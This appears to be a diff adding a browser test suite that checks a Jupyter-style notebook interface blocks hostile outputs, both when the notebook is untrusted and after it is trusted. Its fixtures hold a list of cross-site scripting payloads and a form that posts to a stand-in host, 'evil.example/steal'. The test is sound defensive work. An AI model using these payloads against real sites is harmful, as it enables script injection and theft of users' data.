@@ -1,0 +1,83 @@
+import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import { browserIsMissing, openBrowser, PATIENCE, type WatchedBrowser } from "./browser.js";
+import { type LabProcess, startLab } from "./labProcess.js";
+import { NotebookPage } from "./notebookPage.js";
+import { notebookText, type TestCell } from "./testNotebook.js";
+
+/** Leaves a mark, whichever way it gets to run. */
+const RUN = "window.ranEvil=true;document.documentElement.dataset.evil=1";
+const FOREIGN = "http://evil.example";
+
+const HTML: Readonly<Record<string, string>> = {
+  script: `<script>${RUN}</script>`,
+  "script of another host": `<script src="${FOREIGN}/x.js"></script>`,
+  onerror: `<img src="data:image/png;base64,AA==" onerror="${RUN}">`,
+  "javascript link": `<a class="evil-link" href="javascript:${RUN}">press</a>`,
+  "frame with srcdoc": `<iframe srcdoc="<script>parent.ranEvil=true</script>"></iframe>`,
+  "svg with onload": `<svg onload="${RUN}"><script>${RUN}</script></svg>`,
+  form: `<form action="${FOREIGN}/steal"><input name="a"><button class="evil-button">press</button></form>`,
+  "style with a picture": `<style>body { background: url(${FOREIGN}/style.png) }</style>`,
+  "remote picture": `<img alt="remote" src="${FOREIGN}/picture.png">`,
+  object: `<object data="data:text/html,<script>${RUN}</script>"></object>`,
+  "meta refresh": `<meta http-equiv="refresh" content="0;url=${FOREIGN}/">`,
+  base: `<base href="${FOREIGN}/">`,
+  "details with ontoggle": `<details open ontoggle="${RUN}">x</details>`,
+  "media with onerror": `<video><source onerror="${RUN}"></video>`,
+  "command linker": '<button data-commandlinker-command="notebook:run-all-cells" data-commandlinker-args="{}">press</button>',
+};
+
+const output = (data: object) => [{ output_type: "display_data", data, metadata: {} }];
+
+const CELLS: readonly TestCell[] = [
+  ...Object.values(HTML).map((html, i): TestCell => ({ id: `html-${i}`, source: `"html ${i}"`, outputs: output({ "text/html": html }) })),
+  { id: "javascript", source: '"javascript"', outputs: output({ "application/javascript": RUN }) },
+  { id: "svg", source: '"svg"', outputs: output({ "image/svg+xml": `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>` }) },
+  { id: "latex", source: '"latex"', outputs: output({ "text/latex": `$\\href{javascript:${RUN}}{press}$` }) },
+  { id: "plotly", source: '"plotly"', outputs: output({ "application/vnd.plotly.v1+json": { data: [{ type: "scatter", y: [1], name: `<a href="javascript:${RUN}">n</a>` }], layout: { title: { text: `<img src=x onerror="${RUN}">` } } } }) },
+  { id: "markdown", type: "markdown", source: `${HTML["script"]}\n\n[press](javascript:${RUN})\n\n![remote](${FOREIGN}/markdown.png)\n\n$\\href{javascript:${RUN}}{x}$ $\\htmlData{a=b}{y}$` },
+  { id: "end", type: "markdown", source: "the end" },
+];
+
+describe.skipIf(browserIsMissing)("a notebook that means harm, in a browser", { timeout: PATIENCE }, () => {
+  let lab: LabProcess;
+  let browser: WatchedBrowser;
+  let notebook: NotebookPage;
+
+  beforeAll(async () => {
+    lab = await startLab({ "evil.ipynb": notebookText(CELLS) });
+    browser = await openBrowser(lab);
+    notebook = await NotebookPage.open(browser.context, lab, "evil.ipynb");
+  }, PATIENCE);
+  afterAll(async () => {
+    await browser?.close();
+    await lab?.stop();
+  });
+
+  /** Nothing ran, and nothing was asked of another host: what the policy stopped did not leave the machine. */
+  async function expectHarmless(): Promise<void> {
+    const { page } = notebook;
+    await page.getByText("the end", { exact: true }).scrollIntoViewIfNeeded();
+    await page.locator(".js-plotly-plot .plot-container").first().waitFor({ state: "attached" });
+    for (const link of await page.locator(".jp-OutputArea-output a:visible, .jp-MarkdownOutput a:visible").all()) await link.click({ noWaitAfter: true });
+    expect(await page.evaluate("[window.ranEvil, document.documentElement.dataset.evil]")).toEqual([undefined, undefined]);
+    expect(new URL(page.url()).pathname).toBe("/notebooks/evil.ipynb");
+  }
+
+  test("runs nothing where it is not trusted, and loses what could", async () => {
+    await expectHarmless();
+    expect(await notebook.page.locator(".jp-OutputArea-output :is(script, iframe, object, form, style, svg[onload], [onerror], [ontoggle], meta, base)").count()).toBe(0);
+    expect(await notebook.page.locator('.jp-Notebook a[href^="javascript:"]').count()).toBe(0);
+  });
+
+  test("runs nothing even where somebody trusts it", async () => {
+    await notebook.choose("File", "Trust Notebook");
+    await notebook.dialogButton(/Trust/).click();
+    await notebook.page.locator(".jp-Dialog").waitFor({ state: "detached" });
+    await expectHarmless();
+  });
+
+  test("asks nothing of another host", () => {
+    const answered = browser.offences.filter((offence) => offence.startsWith("request:"));
+    expect(answered).toEqual([]);
+  });
+});
